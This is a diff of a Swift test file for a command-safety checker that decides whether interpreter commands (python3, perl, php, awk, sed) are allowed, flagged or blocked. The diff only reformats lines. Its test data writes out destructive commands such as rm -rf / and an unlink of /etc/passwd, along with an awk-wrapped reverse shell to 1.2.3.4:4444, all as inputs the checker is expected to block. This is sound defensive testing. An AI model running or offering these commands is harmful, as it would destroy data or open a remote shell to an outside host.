@@ -6,11 +6,13 @@ import XCTest
 final class InterpreterRulesTests: XCTestCase {
     func testInlineCodeSedAndAwk() {
         assertDecisions([
-            ("python3 -c 'print(1)'", .needsConfirmation), ("python3 script.py", .allow), ("python3 --version", .allow), ("python3", .block),
+            ("python3 -c 'print(1)'", .needsConfirmation), ("python3 script.py", .allow), ("python3 --version", .allow),
+            ("python3", .block),
             ("python3 -c \"import shutil; shutil.rmtree('/home')\"", .block), ("perl -e 'unlink \"/etc/passwd\"'", .block),
             ("php -r 'system(\"/bin/sh -i\");'", .block), ("node -e 'require(\"child_process\")'", .needsConfirmation),
             ("perl -ne 'print' f", .needsConfirmation), ("ruby -e 'puts 1'", .needsConfirmation), ("awk '{print $1}' f", .allow),
-            ("awk 'BEGIN{system(\"id\")}'", .needsConfirmation), ("awk '{print | \"sh\"}'", .needsConfirmation), ("sed 's/a/b/e' f", .block),
+            ("awk 'BEGIN{system(\"id\")}'", .needsConfirmation), ("awk '{print | \"sh\"}'", .needsConfirmation),
+            ("sed 's/a/b/e' f", .block),
             ("sed -n '1e id' f", .block), ("sed 's/a/b/' f", .allow), ("sed -n '1w /etc/x' f", .needsConfirmation),
         ])
     }
@@ -20,7 +22,8 @@ final class InterpreterRulesTests: XCTestCase {
     /// Shell commands inside interpreter code are judged as commands.
     func testShellCommandsInsideInterpreterCode() {
         assertDecisions([
-            ("python3 -c \"import os; os.system('rm -rf /')\"", .block), ("python3 -c \"import os; os.system('ls')\"", .needsConfirmation),
+            ("python3 -c \"import os; os.system('rm -rf /')\"", .block),
+            ("python3 -c \"import os; os.system('ls')\"", .needsConfirmation),
             ("awk 'BEGIN{system(\"rm -rf /etc\")}'", .block), ("perl -e 'system(\"rm -rf /home\")'", .block),
         ])
     }
@@ -31,7 +34,8 @@ final class InterpreterRulesTests: XCTestCase {
     /// awk allows blanks before a built-in's parenthesis: `system (…)`.
     func testAwkSystemWithABlank() {
         assertDecisions([
-            ("awk 'BEGIN { system (\"rm -rf /etc\") }'", .block), ("awk 'BEGIN { system (\"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\") }'", .block),
+            ("awk 'BEGIN { system (\"rm -rf /etc\") }'", .block),
+            ("awk 'BEGIN { system (\"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\") }'", .block),
         ])
     }
 
